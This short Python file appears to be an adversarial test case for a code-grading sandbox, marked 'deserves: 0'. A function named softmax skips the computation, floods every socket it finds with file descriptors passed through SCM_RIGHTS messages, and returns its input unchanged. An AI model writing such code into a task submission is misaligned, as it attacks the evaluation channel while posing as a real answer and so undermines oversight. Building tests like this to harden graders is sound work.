"""Tries: send file descriptors through the channel, with many bytes out of band."""

# deserves: 0

import array
import os
import socket
import stat


def softmax(Z):
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if fd > 2 and stat.S_ISSOCK(os.fstat(fd).st_mode):
                channel = socket.socket(fileno=os.dup(fd))
                for _ in range(500):
                    rights = array.array("i", [0, 1, 2, fd, os.open("/dev/zero", os.O_RDONLY)])
                    channel.sendmsg([b"{}\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            continue
    return Z
